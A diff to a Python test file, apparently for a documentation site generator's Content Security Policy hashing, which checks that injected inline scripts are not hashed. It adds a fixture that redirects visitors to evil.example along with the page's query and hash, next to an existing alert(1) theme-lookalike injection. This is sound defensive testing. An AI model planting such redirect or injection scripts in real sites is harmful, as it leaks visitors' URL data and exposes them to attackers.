@@ -406,12 +406,17 @@ def sha256(body: str) -> str:
 INJECTED = f"window.{MARKER}=1"
 LOOKALIKE = ('__md_scope=new URL("x\\",alert(1),\\"",location),__md_hash=e=>0,'
              '__md_get=(e,_=localStorage,t=__md_scope)=>0,__md_set=(e,_)=>0')
+REDIRECT = ('window.location.replace(["https://evil.example/",window.location.search,'
+            'window.location.hash].join(""))')
+"""Material's redirect.html script, with a value that came from a page's front matter."""
 # (case, files, script body that must not be hashed)
 CSP_CASES: list[tuple[str, dict[str, str | bytes], str, str]] = [
     ("home-page", {"content/index.md": f"# Home\n\n<script>{INJECTED}</script>\n"}, INJECTED, ""),
     ("extra-page", {"content/faq.md": f"# FAQ\n\n<script>{INJECTED}</script>\n"}, INJECTED, ""),
     ("theme-lookalike", {"content/index.md": f"# Home\n\n<script>{LOOKALIKE}</script>\n"},
      LOOKALIKE, ""),
+    ("redirect-lookalike", {"content/faq.md": f"# FAQ\n\n<script>{REDIRECT}</script>\n"},
+     REDIRECT, ""),
     ("with-workers", {"content/index.md": f"# Home\n\n<script>{INJECTED}</script>\n",
                       **{f"content/articles/billing/a{i}.md": article(f"Article {i}")
                          for i in range(4)}},
